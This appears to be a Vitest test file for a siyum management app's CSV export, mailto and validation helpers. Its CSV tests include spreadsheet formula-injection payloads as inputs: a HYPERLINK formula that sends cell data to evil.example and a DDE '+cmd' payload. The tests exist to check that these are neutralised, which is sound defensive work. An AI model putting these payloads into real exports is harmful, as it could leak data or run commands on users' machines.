import { siyumManageMessages as m, type Participant, validationMessages } from '@siyum/domain';
import { describe, expect, it } from 'vitest';
import { HELPERS, OPEN_PORTIONS, PARTICIPANTS, portionNamed } from './fixtures';
import {
  checkNewHelper,
  checkNewParticipant,
  csvCell,
  displayName,
  fullName,
  learningKey,
  mailtoAll,
  NO_FLAGS,
  participantKey,
  participantsCsv,
  toggleFlag,
} from './manage';

const person = (overrides: Partial<Participant> = {}): Participant => ({
  userId: 1,
  kind: 'member',
  inviteToken: null,
  email: 'esther@example.com',
  firstName: 'Esther',
  lastName: 'Weiss',
  cellPhone: null,
  learnings: [],
  ...overrides,
});

const learning = (labelEn: string, status: 'claimed' | 'completed' = 'claimed') => ({
  portionId: 7,
  labelEn,
  labelHe: '',
  status,
  claimedAt: '2026-11-01T10:00:00.000Z',
  completedAt: status === 'completed' ? '2026-11-02T10:00:00.000Z' : null,
});

/**
 * A minimal RFC 4180 reader: quoted fields with doubled quotes, commas and CRLF inside them. The
 * export is read back with it, so the tests check what a spreadsheet would see.
 */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const char = text[i] as string;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (char === '"') quoted = false;
      else field += char;
      i++;
      continue;
    }
    if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += char;
    i++;
  }
  if (quoted) throw new Error('unterminated quote');
  if (field || row.length) throw new Error('last line has no CRLF');
  return rows;
}

const HEADER = ['First name', 'Last name', 'Email', 'Phone', 'Portion', 'Status'];

describe('csvCell', () => {
  it.each([
    ['plain text', 'Rivka', '"Rivka"'],
    ['empty', '', '""'],
    ['a comma', 'Levin, Rivka', '"Levin, Rivka"'],
    ['quotes (doubled)', 'Yehuda "Yudi"', '"Yehuda ""Yudi"""'],
    ['a line break', 'line 1\r\nline 2', '"line 1\r\nline 2"'],
    ['Hebrew', 'ברכות', '"ברכות"'],
    ['= in the middle (not a formula)', 'a=b', '"a=b"'],
    ['a leading space before =', ' =1+1', '"' + ' =1+1"'],
  ])('quotes %s', (_case, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    ['=', '=1+1', `"'=1+1"`],
    [
      '= with a link',
      '=HYPERLINK("http://evil.example","x")',
      `"'=HYPERLINK(""http://evil.example"",""x"")"`,
    ],
    ['+', '+972521234567', `"'+972521234567"`],
    ['-', '-2+3', `"'-2+3"`],
    ['@', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
    ['a quote after =', '="a"', `"'=""a"""`],
  ])('neutralises a cell starting with %s', (_case, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('prefixes one quote only, once', () => {
    expect(csvCell("'=1")).toBe(`"'=1"`);
    expect(csvCell('==1')).toBe(`"'==1"`);
  });
});

describe('participantsCsv', () => {
  it('has the header in plain words, from the catalogue', () => {
    const [header] = readCsv(participantsCsv([]));
    expect(header).toEqual(HEADER);
    expect(header).toEqual([m.firstName, m.lastName, m.email, m.phoneLabel, m.csvPortion, m.csvStatus]);
  });

  it('is only the header line for no participants', () => {
    expect(participantsCsv([])).toBe(`${HEADER.map((h) => `"${h}"`).join(',')}\r\n`);
  });

  it('writes one line per learning, in order, with the status in words', () => {
    const rows = readCsv(
      participantsCsv([
        person({
          cellPhone: '+972521234567',
          learnings: [learning('Berakhot', 'completed'), learning('Peah')],
        }),
      ]),
    );
    expect(rows).toEqual([
      HEADER,
      ['Esther', 'Weiss', 'esther@example.com', "'+972521234567", 'Berakhot', m.statusCompleted],
      ['Esther', 'Weiss', 'esther@example.com', "'+972521234567", 'Peah', m.statusClaimed],
    ]);
  });

  it('keeps a participant without portions, and empty cells for missing names and phone', () => {
    const rows = readCsv(
      participantsCsv([person({ firstName: null, lastName: null, email: 'dovid.s@example.net' })]),
    );
    expect(rows[1]).toEqual(['', '', 'dovid.s@example.net', '', '', '']);
  });

  it('uses CRLF line ends and quotes every field', () => {
    const csv = participantsCsv([person({ learnings: [learning('Berakhot')] })]);
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(lines[1]).toBe('"Esther","Weiss","esther@example.com","","Berakhot","Learning"');
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('neutralises injected formulas in every column', () => {
    const attack = person({
      firstName: '=HYPERLINK("http://evil.example?"&A2,"Click")',
      lastName: '+cmd|" /C calc"!A0',
      email: '@evil.example',
      cellPhone: '-1+1',
      learnings: [learning('\t=1+1'), learning('\r=2+2', 'completed')],
    });
    const rows = readCsv(participantsCsv([attack]));
    for (const row of rows.slice(1)) {
      expect(row.slice(0, 4)).toEqual([
        `'=HYPERLINK("http://evil.example?"&A2,"Click")`,
        `'+cmd|" /C calc"!A0`,
        `'@evil.example`,
        `'-1+1`,
      ]);
    }
    expect(rows[1]?.[4]).toBe("'\t=1+1");
    expect(rows[2]?.[4]).toBe("'\r=2+2");
    // No field of the file, read back, starts with a formula character.
    for (const field of rows.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps commas, quotes and line breaks inside their field', () => {
    const rows = readCsv(
      participantsCsv([person({ firstName: 'Yehuda "Yudi"', lastName: 'Mor, Jr.\r\nline', learnings: [] })]),
    );
    expect(rows).toHaveLength(2);
    expect(rows[1]?.slice(0, 2)).toEqual(['Yehuda "Yudi"', 'Mor, Jr.\r\nline']);
  });

  it('exports the sample siyum: one line per learning of every participant', () => {
    const rows = readCsv(participantsCsv(PARTICIPANTS));
    const learnings = PARTICIPANTS.reduce((sum, p) => sum + Math.max(1, p.learnings.length), 0);
    expect(rows).toHaveLength(1 + learnings);
    expect(rows.filter((row) => row[2] === 'moshe.katz@example.org').map((row) => row[4])).toEqual([
      'Shabbat',
      'Eruvin',
      'Pesachim',
    ]);
  });
});

describe('mailtoAll', () => {
  it('puts every address in BCC, once', () => {
    expect(
      mailtoAll([{ email: 'a@example.com' }, { email: 'b@example.org' }, { email: 'a@example.com' }]),
    ).toBe('mailto:?bcc=a@example.com,b@example.org');
  });

  it('escapes characters that mean something in a URL', () => {
    expect(mailtoAll([{ email: 'yehuda.mor+siyum@example.net' }, { email: 'a&b@example.com' }])).toBe(
      'mailto:?bcc=yehuda.mor%2Bsiyum@example.net,a%26b@example.com',
    );
  });

  it('is an empty BCC for no one', () => {
    expect(mailtoAll([])).toBe('mailto:?bcc=');
  });
});

describe('names and keys', () => {
  it('joins first and last name, skipping what is missing', () => {
    expect(fullName({ firstName: 'Rivka', lastName: 'Levin' })).toBe('Rivka Levin');
    expect(fullName({ firstName: ' Rivka ', lastName: null })).toBe('Rivka');
    expect(fullName({ firstName: null, lastName: 'Levin' })).toBe('Levin');
    expect(fullName({ firstName: '  ', lastName: null })).toBeNull();
  });

  it('falls back to the email', () => {
    expect(displayName({ firstName: null, lastName: null, email: 'dovid.s@example.net' })).toBe(
      'dovid.s@example.net',
    );
  });

  it('keeps participant and learning keys apart', () => {
    expect(participantKey(11)).toBe('participant:11');
    expect(learningKey(11, 101)).toBe('learning:11:101');
    expect(learningKey(1, 11)).not.toBe(learningKey(11, 1));
  });
});

describe('checkNewParticipant', () => {
  const berakhot = portionNamed('Demai').id;

  it('requires an email and a portion', () => {
    expect(checkNewParticipant({ email: ' ', firstName: '', lastName: '', portionIds: [] })).toEqual({
      ok: false,
      errors: { email: validationMessages.emailRequired, portionIds: m.portionsRequired },
    });
  });

  it.each(['rivka', 'rivka@', '@example.com', 'rivka levin@example.com', 'rivka@example'])(
    'refuses %s as an email',
    (email) => {
      expect(checkNewParticipant({ email, firstName: '', lastName: '', portionIds: [berakhot] })).toEqual({
        ok: false,
        errors: { email: validationMessages.emailInvalid },
      });
    },
  );

  it('trims and lower-cases the email as the API does, drops empty names and duplicate ids', () => {
    expect(
      checkNewParticipant({
        email: '  Rivka.Levin@Example.COM ',
        firstName: ' Rivka ',
        lastName: '',
        portionIds: [berakhot, berakhot, 120],
      }),
    ).toEqual({
      ok: true,
      value: { email: 'rivka.levin@example.com', firstName: 'Rivka', portionIds: [berakhot, 120] },
    });
  });

  it('says what is wrong in the wording it is given', () => {
    const manage = { ...m, portionsRequired: 'Choisissez une portion.' };
    const validation = { ...validationMessages, emailRequired: 'Courriel requis.' };
    expect(
      checkNewParticipant({ email: '', firstName: '', lastName: '', portionIds: [] }, manage, validation),
    ).toEqual({ ok: false, errors: { email: 'Courriel requis.', portionIds: 'Choisissez une portion.' } });
  });

  it('offers only portions that are open in the sample', () => {
    expect(OPEN_PORTIONS.map((p) => p.labelEn)).not.toContain('Berakhot');
    expect(OPEN_PORTIONS.map((p) => p.labelEn)).toContain('Demai');
  });
});

describe('helpers', () => {
  const [sarah, shmuel, leah] = HELPERS;
  if (!sarah || !shmuel || !leah) throw new Error('fixture');

  it('grants the full new set when a box is ticked or unticked', () => {
    expect(toggleFlag(sarah, 'updateUsers', true)).toEqual({
      kind: 'grant',
      grant: { email: sarah.email, editSiyum: true, editSignup: false, updateUsers: true },
    });
    expect(toggleFlag(shmuel, 'editSignup', false)).toEqual({
      kind: 'grant',
      grant: { email: shmuel.email, editSiyum: false, editSignup: false, updateUsers: true },
    });
  });

  it('revokes when the last permission is unticked', () => {
    expect(toggleFlag(leah, 'updateUsers', false)).toEqual({ kind: 'revoke', email: leah.email });
  });

  it('requires an email and at least one permission for a new helper', () => {
    expect(checkNewHelper({ email: '', flags: NO_FLAGS })).toEqual({
      ok: false,
      errors: { email: validationMessages.emailRequired, flags: m.permissionsRequired },
    });
    expect(checkNewHelper({ email: 'sarah.gold@example.com', flags: NO_FLAGS })).toEqual({
      ok: false,
      errors: { flags: m.permissionsRequired },
    });
    expect(checkNewHelper({ email: 'not an email', flags: { ...NO_FLAGS, editSiyum: true } })).toEqual({
      ok: false,
      errors: { email: validationMessages.emailInvalid },
    });
  });

  it('sends every flag, with the email as the API reads it', () => {
    expect(
      checkNewHelper({ email: ' Leah.R@Example.net', flags: { ...NO_FLAGS, editSignup: true } }),
    ).toEqual({
      ok: true,
      value: { email: 'leah.r@example.net', editSiyum: false, editSignup: true, updateUsers: false },
    });
  });
});
